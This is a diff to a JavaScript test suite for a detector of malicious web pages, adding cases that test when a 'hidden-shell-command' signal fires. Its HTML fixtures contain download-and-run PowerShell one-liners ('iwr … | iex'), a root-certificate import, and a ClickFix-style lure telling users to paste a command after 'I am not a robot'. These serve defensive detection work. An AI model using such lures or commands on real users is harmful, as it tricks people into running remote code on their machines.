@@ -1463,6 +1463,12 @@ describe('analysis: signal rules', () => {
       // What hides a command is read in the command, not in the words before it ("Ticket #4471").
       const ticket = judge('https://helpdesk.clinic-example.org/kb/4471', '<title>Teams fix</title><h1>Teams fix</h1><p>Ticket #4471, run: <code id="c">powershell -ExecutionPolicy Bypass -Command "iwr https://helpdesk.clinic-example.org/fix-teams.ps1 | iex"</code></p><button onclick="navigator.clipboard.writeText(document.getElementById(\'c\').textContent)">Copy</button><ol><li>Press Windows + R</li><li>Paste with Ctrl + V</li><li>Press Enter</li></ol>');
       assert.ok(!ids(ticket).includes('hidden-shell-command'), JSON.stringify(ids(ticket)));
+      // A '#' that more commands follow is a script's comment line (the page's text lost its line breaks), not the
+      // comment that ends a ClickFix one-liner.
+      const script = judge('https://helpdesk.clinic-example.org/kb/ca', '<title>Install the Wi-Fi certificate</title><h1>Install the Wi-Fi certificate</h1><pre id="c">Invoke-WebRequest -Uri https://helpdesk.clinic-example.org/ca.cer -OutFile $env:TEMP\\ca.cer\n# check the hash first\nImport-Certificate -FilePath $env:TEMP\\ca.cer -CertStoreLocation Cert:\\CurrentUser\\Root</pre><button onclick="navigator.clipboard.writeText(document.getElementById(\'c\').textContent)">Copy</button><ol><li>Press Windows + R</li><li>Paste with Ctrl + V</li><li>Press Enter</li></ol>');
+      assert.ok(!ids(script).includes('hidden-shell-command'), JSON.stringify(ids(script)));
+      const robot = judge('https://helpdesk.clinic-example.org/kb/robot', page('powershell iwr https://helpdesk.clinic-example.org/fix.ps1 | iex # I am not a robot - Verification ID 4471'));
+      assert.ok(ids(robot).includes('hidden-shell-command'), JSON.stringify(ids(robot)));
     });
 
     it('an airdrop claim that connects a wallet on a host dressed as the claim errand (claim-….xyz) is a drainer; the same claim on the project\'s own host is not judged by it', () => {
